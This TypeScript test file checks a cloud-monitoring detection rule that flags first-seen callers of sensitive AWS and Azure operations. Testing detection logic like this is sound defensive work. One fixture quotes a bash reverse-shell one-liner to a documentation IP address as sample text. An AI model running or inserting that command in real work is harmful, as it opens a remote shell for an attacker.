import { FAMILIES } from '../../../shared/model/operation'
import { DAY, HOUR, MINUTE } from '../../../shared/model/time'
import { firstSeenCaller } from '../../../shared/rules/first-seen-caller'
import { awsActivity, azureActivity, azureUser, NOON, principal } from '../../support/activity'
import { findingOf, from, listed, machines, ruleTable, text } from './rule-cases'

const now = awsActivity({ id: 'now' })
const earlier = (ms: number, given: Parameters<typeof awsActivity>[0] = {}) =>
  awsActivity({ id: 'earlier', at: NOON - ms, ...given })
const service = principal({
  key: 'aws:service/events.amazonaws.com',
  kind: 'service',
  display: 'events.amazonaws.com',
  homeAccount: null,
  human: false,
  aliases: [],
})

const AGENT = 'Microsoft.Azure.Monitor/AzureMonitorLinuxAgent'

/** An extension by an application, named by its type where that could be read. */
const agent = (name: string, given: Parameters<typeof awsActivity>[0] = {}) =>
  azureActivity({
    id: 'now',
    operation: 'microsoft.compute/virtualmachines/extensions/write',
    family: 'extension',
    item: 'Monitoring',
    document: { name, version: '1.10', owner: null },
    actor: azureUser({ kind: 'service-principal', human: false }),
    ...given,
  })

ruleTable(firstSeenCaller, [
  { name: 'nobody was ever seen', activity: now, expected: 'medium' },
  { name: 'on Azure as well', activity: azureActivity(), expected: 'medium' },
  { name: 'a call of yesterday makes the caller known', before: [earlier(DAY)], activity: now, expected: null },
  {
    name: 'whatever machine, network and session it was',
    before: [earlier(DAY, { ...listed(machines(1)), ...from('203.0.113.5'), actor: principal({ session: 'other' }) })],
    activity: now,
    expected: null,
  },
  { name: 'seen exactly seven days ago', before: [earlier(7 * DAY)], activity: now, expected: null },
  {
    name: 'seen a millisecond more than seven days ago',
    before: [earlier(7 * DAY + 1)],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'the latest sighting counts, not the first',
    before: [earlier(9 * DAY), { ...earlier(3 * DAY), id: 'later' }],
    activity: now,
    expected: null,
  },
  {
    name: 'seen eight days ago with fourteen days of history',
    before: [earlier(8 * DAY)],
    activity: now,
    settings: { historyDays: 14 },
    expected: null,
  },
  {
    name: 'seen two days ago with one day of history',
    before: [earlier(2 * DAY)],
    activity: now,
    settings: { historyDays: 1 },
    expected: 'medium',
  },
  {
    name: 'an override shortens history for its account',
    before: [earlier(2 * DAY)],
    activity: now,
    settings: { overrides: [{ account: '123456789012', historyDays: 1 }] },
    expected: 'medium',
  },
  {
    name: 'an override of another account changes nothing',
    before: [earlier(2 * DAY)],
    activity: now,
    settings: { overrides: [{ account: '1111*', historyDays: 1 }] },
    expected: null,
  },
  {
    name: 'another caller was seen',
    before: [earlier(HOUR, { actor: principal({ key: 'aws:123456789012:role/Other' }) })],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'the caller was seen in another account',
    before: [earlier(HOUR, { scope: { ...now.scope, account: '111122223333' } })],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'the caller was seen in another Region of the account',
    before: [earlier(HOUR, { scope: { ...now.scope, region: 'us-east-1' } })],
    activity: now,
    expected: null,
  },
  {
    name: 'the caller was seen with another family',
    before: [earlier(HOUR, { family: 'session', operation: 'ssm:StartSession' })],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'the caller was seen with another operation of the family',
    before: [earlier(HOUR, { operation: 'ecs:ExecuteCommand' })],
    activity: now,
    expected: null,
  },
  { name: 'a denied call reports the caller too', activity: { ...now, outcome: 'denied' }, expected: 'medium' },
  {
    name: 'a denied call teaches nothing',
    before: [earlier(HOUR, { outcome: 'denied' })],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'a failed call teaches nothing',
    before: [earlier(HOUR, { outcome: 'failed' })],
    activity: now,
    expected: 'medium',
  },
  {
    name: 'an Azure call that started teaches',
    before: [azureActivity({ id: 'earlier', at: NOON - HOUR, outcome: 'pending' })],
    activity: azureActivity(),
    expected: null,
  },
  { name: 'what Systems Manager does by itself is not judged', activity: { ...now, automatic: true }, expected: null },
  {
    name: 'what Systems Manager does by itself teaches nothing',
    before: [earlier(HOUR, { automatic: true })],
    activity: now,
    expected: 'medium',
  },
  { name: 'a command by another service is judged', activity: { ...now, actor: service }, expected: 'medium' },
  {
    name: 'a call rated high by its text does not make its caller known',
    before: [earlier(HOUR, text('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'))],
    activity: now,
    expected: 'medium',
  },
  { name: 'an application rolls out an agent whose type was read', activity: agent(AGENT), expected: 'low' },
  {
    name: 'and did so yesterday',
    before: [agent(AGENT, { id: 'earlier', at: NOON - DAY })],
    activity: agent(AGENT),
    expected: null,
  },
  {
    name: 'an application writes an extension of which only the name is known',
    activity: agent('AzureMonitorLinuxAgent'),
    expected: 'medium',
  },
  {
    name: 'an application writes a script extension',
    activity: agent('Microsoft.Azure.Extensions/CustomScript'),
    expected: 'medium',
  },
  {
    name: 'an agent of yesterday makes nobody known who writes a script extension',
    before: [agent(AGENT, { id: 'earlier', at: NOON - DAY })],
    activity: agent('Microsoft.Azure.Extensions/CustomScript'),
    expected: 'medium',
  },
  { name: 'a known agent with a script of its own', activity: agent(AGENT, text('whoami')), expected: 'medium' },
  {
    name: 'a script runner named in the path',
    activity: agent(AGENT, { item: 'RunCommandLinux' }),
    expected: 'medium',
  },
  { name: 'a person rolls out an agent', activity: agent(AGENT, { actor: azureUser() }), expected: 'medium' },
  {
    name: 'somebody of whom nothing is known does',
    activity: agent(AGENT, { actor: azureUser({ human: null }) }),
    expected: 'medium',
  },
  {
    name: 'a sighting of the same millisecond with a smaller id is earlier',
    before: [awsActivity({ id: 'a' })],
    activity: awsActivity({ id: 'b' }),
    expected: null,
  },
  {
    name: 'a sighting of the same millisecond with a greater id is later',
    before: [awsActivity({ id: 'b' })],
    activity: awsActivity({ id: 'a' }),
    expected: 'medium',
  },
  {
    name: 'a later call that arrived before it does not make it known',
    before: [awsActivity({ id: 'later', at: NOON + MINUTE })],
    activity: now,
    expected: 'medium',
  },
  { name: 'silent without history', activity: now, storeDown: true, expected: null },
  {
    name: 'informational while learning',
    activity: now,
    settings: { learningDays: 7 },
    learningStart: NOON - 7 * DAY + 1,
    expected: 'informational',
  },
  {
    name: 'learning ends to the millisecond',
    activity: now,
    settings: { learningDays: 7 },
    learningStart: NOON - 7 * DAY,
    expected: 'medium',
  },
  { name: 'strict changes nothing about it', activity: now, settings: { preset: 'strict' }, expected: 'medium' },
])

const REPORTED = ['command', 'session', 'automation', 'schedule', 'document', 'extension', 'boot']

describe('the families of first-seen-caller', () => {
  it.each(FAMILIES.map((family) => ({ family, expected: REPORTED.includes(family) ? 'medium' : null })))(
    '$family: $expected',
    async ({ family, expected }) => {
      expect((await findingOf(firstSeenCaller, { activity: { ...now, family } }))?.severity ?? null).toBe(expected)
    },
  )

  it('says when the caller was last seen, and that the finding is about novelty only', async () => {
    const finding = await findingOf(firstSeenCaller, { before: [earlier(9 * DAY)], activity: now })
    expect(finding?.novelty).toBe(true)
    expect(finding?.evidence).toEqual([
      { label: 'Caller seen here with this family', value: '2026-02-21T10:00:00.000Z, 9 days earlier' },
    ])
  })
})
